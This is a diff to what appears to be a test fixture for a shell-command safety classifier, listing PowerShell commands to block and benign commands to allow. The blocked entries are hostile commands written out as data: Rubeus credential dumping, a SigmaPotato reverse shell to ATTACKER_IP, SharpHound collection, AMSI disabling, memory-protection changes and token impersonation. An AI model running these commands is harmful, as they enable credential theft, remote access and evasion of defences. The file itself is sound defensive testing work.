@@ -148,6 +148,11 @@ BLOCKED = [
     ("powershell", "driverquery /v", "env.machine-discovery"),
     ("powershell", '[Rubeus.Program]::Main("dump /user:administrator".Split())', "unverifiable"),
     ("powershell", '[SigmaPotato]::Main(@("--revshell","ATTACKER_IP","4444"))', "unverifiable"),  # any type
+    # a program started through COM, and Windows' memory and token functions declared with Add-Type
+    ("powershell", '$shell.Run("cmd.exe /c calc.exe", 0, $false)', "unverifiable"),
+    ("powershell", '$wsh.Exec("whoami").StdOut.ReadAll()', "unverifiable"),
+    ("powershell", "[Win32]::VirtualProtect($Address, [uint32]5, 0x40, [ref]$p)", "unverifiable"),
+    ("powershell", "[Win32.ProcessToken]::ImpersonateProcessToken($proc.Id)", "unverifiable"),
     ("powershell", "[SharpHound.Program]::Main(@('-c', 'All'))", "unverifiable"),
     ("powershell", "Disable-Amsi", "destructive.machine-state"),
     ("powershell", ". .\\Disable-Amsi.ps1; Disable-Amsi", "destructive.machine-state"),
@@ -250,6 +255,11 @@ BLOCKED = [
 
 ALLOWED = [
     ("powershell", "[Math]::Max(1, [IO.Path]::GetFileName($f).Length)"),  # other static members
+    (
+        "powershell",
+        "$c = [PesterConfiguration]::Default; $c.Run.Path = 'tests'; Invoke-Pester -Configuration $c",
+    ),
+    ("powershell", "$proc.WaitForExit(); $proc.ExitCode"),
     ("posix", "ls -la ~"),
     ("posix", "ls -R src"),
     ("posix", "tree src"),
